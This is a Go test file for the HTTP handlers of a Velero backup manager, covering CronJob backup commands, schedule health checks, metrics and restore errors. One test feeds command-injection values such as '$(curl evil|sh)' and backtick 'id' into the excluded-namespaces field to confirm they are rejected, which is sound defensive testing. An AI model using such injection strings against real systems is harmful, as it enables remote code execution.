@@ -0,0 +1,830 @@
+package handlers
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"math"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+	"velero-manager/pkg/config"
+	"velero-manager/pkg/k8s"
+
+	"github.com/gin-gonic/gin"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/apimachinery/pkg/util/yaml"
+	"k8s.io/apimachinery/pkg/watch"
+	"k8s.io/client-go/kubernetes/fake"
+	k8stesting "k8s.io/client-go/testing"
+)
+
+// clusterBackupManifest extracts the Backup manifest a cluster CronJob's command creates
+func clusterBackupManifest(t *testing.T, command string) map[string]interface{} {
+	t.Helper()
+	if !strings.Contains(command, "<<'EOF'") {
+		t.Fatalf("heredoc delimiter is not quoted:\n%s", command)
+	}
+	start := strings.Index(command, "create -f -\n")
+	end := strings.LastIndex(command, "\nEOF")
+	if start < 0 || end < start {
+		t.Fatalf("command has no heredoc manifest:\n%s", command)
+	}
+
+	manifest := map[string]interface{}{}
+	decoder := yaml.NewYAMLOrJSONDecoder(strings.NewReader(command[start+len("create -f -\n"):end]), 4096)
+	if err := decoder.Decode(&manifest); err != nil {
+		t.Fatalf("manifest is not valid YAML: %v\n%s", err, command)
+	}
+	return manifest
+}
+
+func excludedNamespacesOf(t *testing.T, manifest map[string]interface{}) []string {
+	t.Helper()
+	excluded, _, err := unstructured.NestedStringSlice(manifest, "spec", "excludedNamespaces")
+	if err != nil {
+		t.Fatalf("spec.excludedNamespaces: %v", err)
+	}
+	return excluded
+}
+
+func TestBuildClusterBackupCommandExclusions(t *testing.T) {
+	command := buildClusterBackupCommand("prod", "720h", "default", []string{"kube-system", "team-a"})
+	manifest := clusterBackupManifest(t, command)
+
+	if got := excludedNamespacesOf(t, manifest); !slices.Equal(got, []string{"kube-system", "team-a"}) {
+		t.Errorf("excludedNamespaces = %v", got)
+	}
+	if got, _, _ := unstructured.NestedString(manifest, "spec", "storageLocation"); got != "default" {
+		t.Errorf("storageLocation = %q, want default", got)
+	}
+
+	manifest = clusterBackupManifest(t, buildClusterBackupCommand("prod", "720h", "default", nil))
+	if _, found, _ := unstructured.NestedFieldNoCopy(manifest, "spec", "excludedNamespaces"); found {
+		t.Error("excludedNamespaces set although no namespaces are excluded")
+	}
+}
+
+func TestAddClusterWritesExclusionsIntoCronJob(t *testing.T) {
+	tests := []struct {
+		name     string
+		excluded []string
+		want     []string
+	}{
+		{name: "defaults", excluded: nil, want: config.GetBackupConfig().DefaultExcludedNamespaces},
+		{name: "custom", excluded: []string{"scratch"}, want: []string{"scratch"}},
+		{name: "none", excluded: []string{}, want: nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			client := newTestClient()
+			handler := NewVeleroHandler(client, nil)
+
+			body := map[string]interface{}{
+				"name":        "prod",
+				"apiEndpoint": "https://prod.example.com:6443",
+				"schedule":    "0 2 * * *",
+				"token":       "secret-token",
+				"caCert":      base64.StdEncoding.EncodeToString([]byte("ca")),
+			}
+			if tt.excluded != nil {
+				body["excludedNamespaces"] = tt.excluded
+			}
+
+			w := serve(handler.AddCluster, http.MethodPost, "/api/v1/clusters", body, nil, "admin")
+			assertStatus(t, w, http.StatusCreated)
+
+			cronJob, err := client.DynamicClient.Resource(k8s.CronJobGVR).Namespace("velero").
+				Get(context.Background(), "backup-prod-daily", metav1.GetOptions{})
+			if err != nil {
+				t.Fatalf("get CronJob: %v", err)
+			}
+			containers, _, _ := unstructured.NestedSlice(cronJob.Object, "spec", "jobTemplate", "spec", "template", "spec", "containers")
+			if len(containers) != 1 {
+				t.Fatalf("CronJob has %d containers, want 1", len(containers))
+			}
+			command, _, _ := unstructured.NestedStringSlice(containers[0].(map[string]interface{}), "command")
+			if len(command) != 3 {
+				t.Fatalf("command = %v", command)
+			}
+
+			if got := excludedNamespacesOf(t, clusterBackupManifest(t, command[2])); !slices.Equal(got, tt.want) {
+				t.Errorf("excludedNamespaces = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestAddClusterRejectsInvalidExcludedNamespaces(t *testing.T) {
+	for _, excluded := range []string{"$(curl evil|sh)", "`id`", "Team-A", ""} {
+		t.Run(excluded, func(t *testing.T) {
+			client := newTestClient()
+			handler := NewVeleroHandler(client, nil)
+
+			body := map[string]interface{}{
+				"name":               "prod",
+				"apiEndpoint":        "https://prod.example.com:6443",
+				"schedule":           "0 2 * * *",
+				"token":              "secret-token",
+				"caCert":             base64.StdEncoding.EncodeToString([]byte("ca")),
+				"excludedNamespaces": []string{"kube-system", excluded},
+			}
+			w := serve(handler.AddCluster, http.MethodPost, "/api/v1/clusters", body, nil, "admin")
+			assertStatus(t, w, http.StatusBadRequest)
+
+			cronJobs, err := client.DynamicClient.Resource(k8s.CronJobGVR).Namespace("velero").
+				List(context.Background(), metav1.ListOptions{})
+			if err != nil {
+				t.Fatalf("list CronJobs: %v", err)
+			}
+			if len(cronJobs.Items) != 0 {
+				t.Errorf("created %d CronJobs for a rejected request", len(cronJobs.Items))
+			}
+		})
+	}
+}
+
+func TestValidateExcludedNamespacesAllowsWildcards(t *testing.T) {
+	if err := validateExcludedNamespaces([]string{"*", "kube-*", "team-a"}); err != nil {
+		t.Errorf("validateExcludedNamespaces: %v", err)
+	}
+}
+
+func TestGetDownloadURLStopsWhenRequestEnds(t *testing.T) {
+	client := newTestClient()
+	handler := NewVeleroHandler(client, nil)
+
+	// Nothing processes the DownloadRequest, so only the request context can end the wait
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() {
+		_, err := handler.getDownloadURL(ctx, "BackupLog", "prod-1")
+		done <- err
+	}()
+	cancel()
+
+	select {
+	case err := <-done:
+		if err != context.Canceled {
+			t.Errorf("err = %v, want %v", err, context.Canceled)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("getDownloadURL kept polling after the request ended")
+	}
+
+	requests, err := client.DynamicClient.Resource(k8s.DownloadRequestGVR).Namespace("velero").
+		List(context.Background(), metav1.ListOptions{})
+	if err != nil {
+		t.Fatalf("list DownloadRequests: %v", err)
+	}
+	if len(requests.Items) != 0 {
+		t.Errorf("left %d DownloadRequests behind", len(requests.Items))
+	}
+}
+
+func newTestBackup(name string, labels map[string]string, content map[string]interface{}) *unstructured.Unstructured {
+	backup := newUnstructured("velero.io/v1", "Backup", "velero", name, content)
+	backup.SetLabels(labels)
+	return backup
+}
+
+func TestRecountStorageLocationBackupsReportsNewBackups(t *testing.T) {
+	defer func(wait time.Duration) { storageLocationRecountWait = wait }(storageLocationRecountWait)
+	storageLocationRecountWait = 10 * time.Millisecond
+
+	locationLabel := map[string]string{"velero.io/storage-location": "default"}
+	location := newUnstructured("velero.io/v1", "BackupStorageLocation", "velero", "default", map[string]interface{}{
+		"status": map[string]interface{}{"lastSyncedTime": "2026-01-02T03:04:05Z"},
+	})
+	client := newTestClient(
+		location,
+		newTestBackup("prod-1", locationLabel, nil),
+		newTestBackup("other-1", map[string]string{"velero.io/storage-location": "other"}, nil),
+	)
+
+	// Velero's periodic sync pulls one more backup from object storage during the wait
+	fake := fakeDynamic(client)
+	lists := 0
+	fake.PrependReactor("list", "backups", func(action k8stesting.Action) (bool, runtime.Object, error) {
+		lists++
+		if lists == 2 {
+			if err := fake.Tracker().Create(k8s.BackupGVR, newTestBackup("prod-2", locationLabel, nil), "velero"); err != nil {
+				t.Errorf("create synced backup: %v", err)
+			}
+		}
+		return false, nil, nil
+	})
+
+	handler := NewVeleroHandler(client, nil)
+	w := serve(handler.RecountStorageLocationBackups, http.MethodPost, "/api/v1/storage-locations/default/recount", nil,
+		gin.Params{{Key: "name", Value: "default"}}, "admin")
+	assertStatus(t, w, http.StatusOK)
+
+	body := decodeBody(t, w)
+	if body["backupsBefore"] != float64(1) || body["backupsAfter"] != float64(2) || body["newBackups"] != float64(1) {
+		t.Errorf("counts = before %v, after %v, new %v; want 1, 2, 1", body["backupsBefore"], body["backupsAfter"], body["newBackups"])
+	}
+	if body["lastSyncedTime"] != "2026-01-02T03:04:05Z" {
+		t.Errorf("lastSyncedTime = %v", body["lastSyncedTime"])
+	}
+
+	// Recounting must not touch the location
+	for _, action := range fake.Actions() {
+		if action.GetVerb() == "update" || action.GetVerb() == "patch" {
+			t.Errorf("unexpected %s of %s", action.GetVerb(), action.GetResource().Resource)
+		}
+	}
+}
+
+func TestRecountStorageLocationBackupsUnknownLocation(t *testing.T) {
+	handler := NewVeleroHandler(newTestClient(), nil)
+	w := serve(handler.RecountStorageLocationBackups, http.MethodPost, "/api/v1/storage-locations/missing/recount", nil,
+		gin.Params{{Key: "name", Value: "missing"}}, "admin")
+	assertStatus(t, w, http.StatusNotFound)
+}
+
+func TestRecountStorageLocationBackupsStopsWaitingWhenClientLeaves(t *testing.T) {
+	defer func(wait time.Duration) { storageLocationRecountWait = wait }(storageLocationRecountWait)
+	storageLocationRecountWait = time.Hour
+
+	client := newTestClient(newUnstructured("velero.io/v1", "BackupStorageLocation", "velero", "default", nil))
+	handler := NewVeleroHandler(client, nil)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	w := httptest.NewRecorder()
+	c, _ := gin.CreateTestContext(w)
+	c.Request = httptest.NewRequest(http.MethodPost, "/api/v1/storage-locations/default/recount", nil).WithContext(ctx)
+	c.Params = gin.Params{{Key: "name", Value: "default"}}
+
+	done := make(chan struct{})
+	go func() {
+		handler.RecountStorageLocationBackups(c)
+		close(done)
+	}()
+	cancel()
+
+	select {
+	case <-done:
+	case <-time.After(5 * time.Second):
+		t.Fatal("RecountStorageLocationBackups kept waiting after the client went away")
+	}
+	if w.Body.Len() != 0 {
+		t.Errorf("wrote a response to a client that went away: %s", w.Body.String())
+	}
+}
+
+func TestDurationPercentiles(t *testing.T) {
+	near := func(got interface{}, want float64) bool {
+		value, ok := got.(float64)
+		return ok && math.Abs(value-want) < 1e-9
+	}
+
+	empty := durationPercentiles(nil)
+	if empty["samples"] != 0 || empty["p50"] != nil || empty["p99"] != nil || empty["max"] != nil {
+		t.Errorf("no samples: %v, want nil percentiles", empty)
+	}
+
+	single := durationPercentiles([]float64{42})
+	for _, key := range []string{"p50", "p95", "p99", "min", "max"} {
+		if !near(single[key], 42) {
+			t.Errorf("single sample %s = %v, want 42", key, single[key])
+		}
+	}
+
+	// 1..10 in reverse, so the input also has to be sorted
+	samples := []float64{10, 9, 8, 7, 6, 5, 4, 3, 2, 1}
+	result := durationPercentiles(samples)
+	want := map[string]float64{"p50": 5.5, "p95": 9.55, "p99": 9.91, "min": 1, "max": 10}
+	for key, value := range want {
+		if !near(result[key], value) {
+			t.Errorf("%s = %v, want %v", key, result[key], value)
+		}
+	}
+	if result["samples"] != 10 {
+		t.Errorf("samples = %v, want 10", result["samples"])
+	}
+	if samples[0] != 10 {
+		t.Error("durationPercentiles reordered the caller's samples")
+	}
+}
+
+func TestPercentileInterpolatesBetweenRanks(t *testing.T) {
+	sorted := []float64{10, 20, 30, 40}
+	tests := map[float64]float64{0: 10, 25: 17.5, 50: 25, 100: 40}
+	for p, want := range tests {
+		if got := percentile(sorted, p); math.Abs(got-want) > 1e-9 {
+			t.Errorf("percentile(%v) = %v, want %v", p, got, want)
+		}
+	}
+}
+
+func TestCompletedDuration(t *testing.T) {
+	since := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	status := func(phase, start, end string) map[string]interface{} {
+		return map[string]interface{}{"status": map[string]interface{}{
+			"phase": phase, "startTimestamp": start, "completionTimestamp": end,
+		}}
+	}
+
+	if got, ok := completedDuration(status("Completed", "2026-01-02T10:00:00Z", "2026-01-02T10:01:30Z"), since); !ok || got != 90 {
+		t.Errorf("completed = %v, %v; want 90, true", got, ok)
+	}
+	if _, ok := completedDuration(status("Failed", "2026-01-02T10:00:00Z", "2026-01-02T10:01:30Z"), since); ok {
+		t.Error("failed backup counted")
+	}
+	if _, ok := completedDuration(status("Completed", "2025-12-31T10:00:00Z", "2025-12-31T10:01:30Z"), since); ok {
+		t.Error("backup started before the window counted")
+	}
+	if _, ok := completedDuration(status("Completed", "2026-01-02T10:00:00Z", "2026-01-02T09:00:00Z"), since); ok {
+		t.Error("backup completed before it started counted")
+	}
+}
+
+// watchBackups makes the fake dynamic client serve backup watches from its tracker, closing
+// each watch after closeAfter the way the API server ends watches, and reports every
+// established watch on the returned channel
+func watchBackups(t *testing.T, client *k8s.Client, closeAfter time.Duration) <-chan struct{} {
+	t.Helper()
+	fake := fakeDynamic(client)
+	watching := make(chan struct{}, 10)
+	fake.PrependWatchReactor("backups", func(action k8stesting.Action) (bool, watch.Interface, error) {
+		watcher, err := fake.Tracker().Watch(k8s.BackupGVR, action.GetNamespace())
+		if err != nil {
+			return true, nil, err
+		}
+		time.AfterFunc(closeAfter, watcher.Stop)
+		watching <- struct{}{}
+		return true, watcher, nil
+	})
+	return watching
+}
+
+func TestCreateBackupWaitsForCompletion(t *testing.T) {
+	client := newTestClient()
+	watching := watchBackups(t, client, time.Minute)
+	handler := NewVeleroHandler(client, nil)
+
+	// Velero finishes the backup once the handler is watching it
+	go func() {
+		<-watching
+		backups := client.DynamicClient.Resource(k8s.BackupGVR).Namespace("velero")
+		backup, err := backups.Get(context.Background(), "nightly", metav1.GetOptions{})
+		if err != nil {
+			t.Errorf("get backup: %v", err)
+			return
+		}
+		backup.Object["status"] = map[string]interface{}{
+			"phase":    "Completed",
+			"errors":   int64(0),
+			"warnings": int64(2),
+			"progress": map[string]interface{}{"totalItems": int64(12), "itemsBackedUp": int64(12)},
+		}
+		if _, err := backups.Update(context.Background(), backup, metav1.UpdateOptions{}); err != nil {
+			t.Errorf("update backup: %v", err)
+		}
+	}()
+
+	w := serve(handler.CreateBackup, http.MethodPost, "/api/v1/backups?wait=true&timeout=30s",
+		map[string]interface{}{"name": "nightly"}, nil, "admin")
+	assertStatus(t, w, http.StatusOK)
+
+	body := decodeBody(t, w)
+	if body["phase"] != "Completed" || body["backup"] != "nightly" {
+		t.Errorf("phase = %v, backup = %v; want Completed, nightly", body["phase"], body["backup"])
+	}
+	if body["totalItems"] != float64(12) || body["itemsBackedUp"] != float64(12) || body["warnings"] != float64(2) {
+		t.Errorf("progress = %v/%v items, %v warnings; want 12/12, 2", body["itemsBackedUp"], body["totalItems"], body["warnings"])
+	}
+}
+
+func TestCreateBackupWaitTimesOut(t *testing.T) {
+	client := newTestClient()
+	// The backup never finishes; the watch ends after the wait timeout like a real one would
+	watchBackups(t, client, 200*time.Millisecond)
+	handler := NewVeleroHandler(client, nil)
+
+	started := time.Now()
+	w := serve(handler.CreateBackup, http.MethodPost, "/api/v1/backups?wait=true&timeout=50ms",
+		map[string]interface{}{"name": "nightly"}, nil, "admin")
+	assertStatus(t, w, http.StatusAccepted)
+
+	if elapsed := time.Since(started); elapsed > 5*time.Second {
+		t.Errorf("took %s to give up on a 50ms wait", elapsed)
+	}
+	body := decodeBody(t, w)
+	if body["backup"] != "nightly" || body["timeout"] != "50ms" {
+		t.Errorf("backup = %v, timeout = %v; want nightly, 50ms", body["backup"], body["timeout"])
+	}
+
+	// The backup was still created and is left running
+	if _, err := client.DynamicClient.Resource(k8s.BackupGVR).Namespace("velero").
+		Get(context.Background(), "nightly", metav1.GetOptions{}); err != nil {
+		t.Errorf("backup not created: %v", err)
+	}
+}
+
+func TestCreateBackupRejectsInvalidWaitTimeout(t *testing.T) {
+	handler := NewVeleroHandler(newTestClient(), nil)
+	for _, timeout := range []string{"soon", "0s", "2h"} {
+		w := serve(handler.CreateBackup, http.MethodPost, "/api/v1/backups?wait=true&timeout="+timeout,
+			map[string]interface{}{"name": "nightly"}, nil, "admin")
+		assertStatus(t, w, http.StatusBadRequest)
+	}
+}
+
+func newTestSchedule(name string, created time.Time, spec map[string]interface{}) *unstructured.Unstructured {
+	schedule := newUnstructured("velero.io/v1", "Schedule", "velero", name, map[string]interface{}{"spec": spec})
+	schedule.SetCreationTimestamp(metav1.NewTime(created))
+	return schedule
+}
+
+func newScheduledBackup(name, schedule string, created time.Time, status map[string]interface{}) *unstructured.Unstructured {
+	backup := newTestBackup(name, map[string]string{"velero.io/schedule-name": schedule}, map[string]interface{}{"status": status})
+	backup.SetCreationTimestamp(metav1.NewTime(created))
+	return backup
+}
+
+func TestListBrokenSchedules(t *testing.T) {
+	now := time.Now()
+	twoDaysAgo := now.Add(-48 * time.Hour)
+	daily := map[string]interface{}{"schedule": "0 2 * * *"}
+
+	client := newTestClient(
+		// Only failed backups: broken, explained by the latest failure
+		newTestSchedule("only-failed", twoDaysAgo, daily),
+		newScheduledBackup("only-failed-1", "only-failed", now.Add(-30*time.Hour),
+			map[string]interface{}{"phase": "Failed", "failureReason": "old failure"}),
+		newScheduledBackup("only-failed-2", "only-failed", now.Add(-6*time.Hour),
+			map[string]interface{}{"phase": "PartiallyFailed", "failureReason": "volume snapshot failed"}),
+
+		// Past due without a single backup: broken
+		newTestSchedule("no-backups", twoDaysAgo, daily),
+
+		// Not broken: succeeded once, still within the grace period, paused, or a backup is
+		// still running and may succeed
+		newTestSchedule("succeeded", twoDaysAgo, daily),
+		newScheduledBackup("succeeded-1", "succeeded", now.Add(-30*time.Hour), map[string]interface{}{"phase": "Failed"}),
+		newScheduledBackup("succeeded-2", "succeeded", now.Add(-6*time.Hour), map[string]interface{}{"phase": "Completed"}),
+		newTestSchedule("new", now.Add(-time.Hour), daily),
+		newTestSchedule("paused", twoDaysAgo, map[string]interface{}{"schedule": "0 2 * * *", "paused": true}),
+		newTestSchedule("running", twoDaysAgo, daily),
+		newScheduledBackup("running-1", "running", now.Add(-30*time.Hour), map[string]interface{}{"phase": "Failed"}),
+		newScheduledBackup("running-2", "running", now.Add(-time.Minute), map[string]interface{}{"phase": "InProgress"}),
+	)
+	handler := NewVeleroHandler(client, nil)
+
+	w := serve(handler.ListBrokenSchedules, http.MethodGet, "/api/v1/schedules/broken", nil, nil, "viewer")
+	assertStatus(t, w, http.StatusOK)
+
+	body := decodeBody(t, w)
+	schedules, _ := body["schedules"].([]interface{})
+	broken := make(map[string]map[string]interface{})
+	for _, item := range schedules {
+		schedule := item.(map[string]interface{})
+		broken[schedule["name"].(string)] = schedule
+	}
+	if len(broken) != 2 || body["count"] != float64(2) {
+		t.Fatalf("broken schedules = %v, want only-failed and no-backups", schedules)
+	}
+
+	onlyFailed, ok := broken["only-failed"]
+	if !ok {
+		t.Fatal("only-failed not listed")
+	}
+	if onlyFailed["backupCount"] != float64(2) {
+		t.Errorf("only-failed backupCount = %v, want 2", onlyFailed["backupCount"])
+	}
+	failedPhases, _ := onlyFailed["failedPhases"].(map[string]interface{})
+	if failedPhases["Failed"] != float64(1) || failedPhases["PartiallyFailed"] != float64(1) {
+		t.Errorf("only-failed failedPhases = %v", failedPhases)
+	}
+	if reason, _ := onlyFailed["reason"].(string); !strings.Contains(reason, "only-failed-2") || !strings.Contains(reason, "volume snapshot failed") {
+		t.Errorf("only-failed reason = %q, want the latest backup's failure", reason)
+	}
+
+	noBackups, ok := broken["no-backups"]
+	if !ok {
+		t.Fatal("no-backups not listed")
+	}
+	if noBackups["backupCount"] != float64(0) || noBackups["reason"] != "Schedule has not produced any backups" {
+		t.Errorf("no-backups = %v", noBackups)
+	}
+}
+
+func TestBrokenScheduleReasonPrefersValidationErrors(t *testing.T) {
+	backups := []unstructured.Unstructured{*newScheduledBackup("nightly-1", "nightly", time.Now(),
+		map[string]interface{}{"phase": "FailedValidation", "validationErrors": []interface{}{"backup storage location not found"}})}
+
+	if reason := brokenScheduleReason([]string{"invalid schedule"}, backups); reason != "Schedule failed validation: invalid schedule" {
+		t.Errorf("reason = %q", reason)
+	}
+	if reason := brokenScheduleReason(nil, backups); reason != "Latest backup nightly-1 failed validation: backup storage location not found" {
+		t.Errorf("reason = %q", reason)
+	}
+}
+
+func newTestCronJob(namespace, name string) *unstructured.Unstructured {
+	return newUnstructured("batch/v1", "CronJob", namespace, name, map[string]interface{}{
+		"spec": map[string]interface{}{"schedule": "0 2 * * *"},
+	})
+}
+
+func TestGetDashboardMetricsCountsSchedules(t *testing.T) {
+	client := newTestClient(
+		newTestSchedule("nightly", time.Now(), map[string]interface{}{"schedule": "0 1 * * *"}),
+		newTestCronJob("velero", "backup-prod-daily"),
+		// Neither is a backup schedule: not a cluster backup CronJob, and not in velero
+		newTestCronJob("velero", "token-rotation"),
+		newTestCronJob("velero-manager", "backup-staging-daily"),
+	)
+	handler := NewVeleroHandler(client, nil)
+
+	w := serve(handler.GetDashboardMetrics, http.MethodGet, "/api/v1/dashboard/metrics", nil, nil, "viewer")
+	assertStatus(t, w, http.StatusOK)
+
+	schedules, _ := decodeBody(t, w)["schedules"].(map[string]interface{})
+	if schedules["total"] != float64(2) || schedules["veleroSchedules"] != float64(1) || schedules["cronJobs"] != float64(1) {
+		t.Errorf("schedules = %v, want 2 in total: 1 Velero schedule and 1 backup CronJob", schedules)
+	}
+}
+
+func TestTriggerCronJobCreatesOwnedJob(t *testing.T) {
+	cronJob := newTestCronJob("velero", "backup-prod-daily")
+	cronJob.SetUID("cronjob-uid")
+	unstructured.SetNestedField(cronJob.Object, map[string]interface{}{
+		"metadata": map[string]interface{}{
+			"labels": map[string]interface{}{"app": "velero-backup", "velero.io/cluster": "stale"},
+		},
+		"spec": map[string]interface{}{"backoffLimit": int64(2)},
+	}, "spec", "jobTemplate")
+	client := newTestClient(cronJob)
+	handler := NewVeleroHandler(client, nil)
+
+	w := serve(handler.TriggerCronJob, http.MethodPost, "/api/v1/cronjobs/backup-prod-daily/trigger", nil,
+		gin.Params{{Key: "name", Value: "backup-prod-daily"}}, "admin")
+	assertStatus(t, w, http.StatusCreated)
+	jobName, _ := decodeBody(t, w)["job"].(string)
+
+	job, err := client.DynamicClient.Resource(k8s.JobGVR).Namespace("velero").Get(context.Background(), jobName, metav1.GetOptions{})
+	if err != nil {
+		t.Fatalf("get job %q: %v", jobName, err)
+	}
+
+	owners := job.GetOwnerReferences()
+	if len(owners) != 1 || owners[0].Kind != "CronJob" || owners[0].Name != "backup-prod-daily" ||
+		owners[0].UID != "cronjob-uid" || owners[0].Controller == nil || !*owners[0].Controller {
+		t.Errorf("ownerReferences = %+v, want the CronJob as controller", owners)
+	}
+
+	labels := job.GetLabels()
+	want := map[string]string{
+		"app":                 "velero-backup",
+		"velero.io/cluster":   "prod",
+		"velero.io/triggered": "manual",
+		"cronjob-name":        "backup-prod-daily",
+	}
+	for key, value := range want {
+		if labels[key] != value {
+			t.Errorf("label %s = %q, want %q", key, labels[key], value)
+		}
+	}
+
+	if backoffLimit, _, _ := unstructured.NestedInt64(job.Object, "spec", "backoffLimit"); backoffLimit != 2 {
+		t.Errorf("spec.backoffLimit = %d, want the template's 2", backoffLimit)
+	}
+}
+
+func TestTriggerCronJobWithoutTemplate(t *testing.T) {
+	client := newTestClient(newTestCronJob("velero", "backup-prod-daily"))
+	handler := NewVeleroHandler(client, nil)
+
+	w := serve(handler.TriggerCronJob, http.MethodPost, "/api/v1/cronjobs/backup-prod-daily/trigger", nil,
+		gin.Params{{Key: "name", Value: "backup-prod-daily"}}, "admin")
+	assertStatus(t, w, http.StatusUnprocessableEntity)
+
+	jobs, err := client.DynamicClient.Resource(k8s.JobGVR).Namespace("velero").List(context.Background(), metav1.ListOptions{})
+	if err != nil {
+		t.Fatalf("list jobs: %v", err)
+	}
+	if len(jobs.Items) != 0 {
+		t.Errorf("created %d jobs for a CronJob without a job template", len(jobs.Items))
+	}
+}
+
+func TestCreateScheduleOptions(t *testing.T) {
+	tests := []struct {
+		name string
+		body map[string]interface{}
+		want map[string]interface{}
+	}{
+		{"absent", map[string]interface{}{}, map[string]interface{}{}},
+		{
+			"set",
+			map[string]interface{}{"skipImmediately": true, "useOwnerReferencesInBackup": false},
+			map[string]interface{}{"skipImmediately": true, "useOwnerReferencesInBackup": false},
+		},
+		{"skipImmediately only", map[string]interface{}{"skipImmediately": false}, map[string]interface{}{"skipImmediately": false}},
+	}
+	for _, tt := range tests {
+		client := newTestClient()
+		handler := NewVeleroHandler(client, nil)
+
+		body := map[string]interface{}{"name": "nightly", "schedule": "0 1 * * *"}
+		for key, value := range tt.body {
+			body[key] = value
+		}
+		w := serve(handler.CreateSchedule, http.MethodPost, "/api/v1/schedules", body, nil, "admin")
+		assertStatus(t, w, http.StatusCreated)
+
+		schedule, err := client.DynamicClient.Resource(k8s.ScheduleGVR).Namespace("velero").Get(context.Background(), "nightly", metav1.GetOptions{})
+		if err != nil {
+			t.Fatalf("%s: get schedule: %v", tt.name, err)
+		}
+		for _, field := range []string{"skipImmediately", "useOwnerReferencesInBackup"} {
+			got, found, _ := unstructured.NestedBool(schedule.Object, "spec", field)
+			want, wantFound := tt.want[field]
+			if found != wantFound || (found && got != want) {
+				t.Errorf("%s: spec.%s = %v (present %t), want %v (present %t)", tt.name, field, got, found, want, wantFound)
+			}
+		}
+	}
+}
+
+func TestUpdateScheduleOptions(t *testing.T) {
+	client := newTestClient(newTestSchedule("nightly", time.Now(), map[string]interface{}{
+		"schedule":                   "0 1 * * *",
+		"skipImmediately":            true,
+		"useOwnerReferencesInBackup": true,
+	}))
+	handler := NewVeleroHandler(client, nil)
+	params := gin.Params{{Key: "name", Value: "nightly"}}
+
+	specOf := func() map[string]interface{} {
+		schedule, err := client.DynamicClient.Resource(k8s.ScheduleGVR).Namespace("velero").Get(context.Background(), "nightly", metav1.GetOptions{})
+		if err != nil {
+			t.Fatalf("get schedule: %v", err)
+		}
+		spec, _, _ := unstructured.NestedMap(schedule.Object, "spec")
+		return spec
+	}
+
+	// Omitted options leave the schedule's settings alone
+	w := serve(handler.UpdateSchedule, http.MethodPut, "/api/v1/schedules/nightly", map[string]interface{}{"schedule": "0 3 * * *"}, params, "admin")
+	assertStatus(t, w, http.StatusOK)
+	if spec := specOf(); spec["skipImmediately"] != true || spec["useOwnerReferencesInBackup"] != true {
+		t.Errorf("spec = %v, want both options still true", spec)
+	}
+
+	w = serve(handler.UpdateSchedule, http.MethodPut, "/api/v1/schedules/nightly", map[string]interface{}{"skipImmediately": false}, params, "admin")
+	assertStatus(t, w, http.StatusOK)
+	if spec := specOf(); spec["skipImmediately"] != false || spec["useOwnerReferencesInBackup"] != true {
+		t.Errorf("spec = %v, want skipImmediately false and useOwnerReferencesInBackup unchanged", spec)
+	}
+}
+
+func TestGetRestoreResultsErrors(t *testing.T) {
+	inProgress := newUnstructured("velero.io/v1", "Restore", "velero", "in-progress", map[string]interface{}{
+		"status": map[string]interface{}{"phase": "InProgress"},
+	})
+	client := newTestClient(inProgress)
+	fakeDynamic(client).PrependReactor("get", "restores", func(action k8stesting.Action) (bool, runtime.Object, error) {
+		if action.(k8stesting.GetAction).GetName() != "forbidden" {
+			return false, nil, nil
+		}
+		return true, nil, apierrors.NewForbidden(k8s.RestoreGVR.GroupResource(), "forbidden", nil)
+	})
+	handler := NewVeleroHandler(client, nil)
+
+	tests := []struct {
+		restore string
+		status  int
+		code    string
+	}{
+		{"missing", http.StatusNotFound, ErrCodeRestoreNotFound},
+		{"forbidden", http.StatusInternalServerError, ErrCodeRestoreGetFailed},
+		{"in-progress", http.StatusConflict, ErrCodeRestoreNotReady},
+	}
+	for _, tt := range tests {
+		w := serve(handler.GetRestoreResults, http.MethodGet, "/api/v1/restores/"+tt.restore+"/results", nil,
+			gin.Params{{Key: "name", Value: tt.restore}}, "viewer")
+		if w.Code != tt.status {
+			t.Errorf("%s: status = %d, want %d\n%s", tt.restore, w.Code, tt.status, w.Body.String())
+			continue
+		}
+		if code := decodeBody(t, w)["code"]; code != tt.code {
+			t.Errorf("%s: code = %v, want %s", tt.restore, code, tt.code)
+		}
+	}
+}
+
+func TestNewRestoreResultGroupsByResource(t *testing.T) {
+	result := newRestoreResult(veleroRestoreResult{
+		Velero:  []string{"timed out waiting for plugin operations"},
+		Cluster: []string{"error restoring persistentvolumes/pv-1: volume in use"},
+		Namespaces: map[string][]string{
+			"shop": {
+				"error restoring deployments.apps/shop/web: admission webhook denied the request",
+				"error restoring deployments.apps/shop/worker: admission webhook denied the request",
+				`could not restore, ConfigMap "settings" already exists. Warning: the in-cluster version is different than the backed-up version`,
+				"error executing PostHook in container web",
+			},
+		},
+	})
+
+	shop := result.Namespaces["shop"]
+	if len(shop["deployments.apps"]) != 2 || len(shop["ConfigMap"]) != 1 || len(shop[otherResource]) != 1 {
+		t.Errorf("shop = %v, want 2 deployment messages, 1 ConfigMap message and 1 other", shop)
+	}
+	if len(result.Cluster["persistentvolumes"]) != 1 {
+		t.Errorf("cluster = %v, want the persistentvolumes message", result.Cluster)
+	}
+	if count := result.count(); count != 6 {
+		t.Errorf("count = %d, want 6", count)
+	}
+}
+
+func TestGetBackupLogsLookupErrors(t *testing.T) {
+	client := newTestClient()
+	fakeDynamic(client).PrependReactor("get", "backups", func(action k8stesting.Action) (bool, runtime.Object, error) {
+		if action.(k8stesting.GetAction).GetName() != "forbidden" {
+			return false, nil, nil
+		}
+		return true, nil, apierrors.NewForbidden(k8s.BackupGVR.GroupResource(), "forbidden", nil)
+	})
+	handler := NewVeleroHandler(client, nil)
+
+	tests := []struct {
+		backup string
+		status int
+		code   string
+	}{
+		{"missing", http.StatusNotFound, ErrCodeBackupNotFound},
+		{"forbidden", http.StatusInternalServerError, ErrCodeBackupGetFailed},
+	}
+	for _, tt := range tests {
+		w := serve(handler.GetBackupLogs, http.MethodGet, "/api/v1/backups/"+tt.backup+"/logs", nil,
+			gin.Params{{Key: "name", Value: tt.backup}}, "viewer")
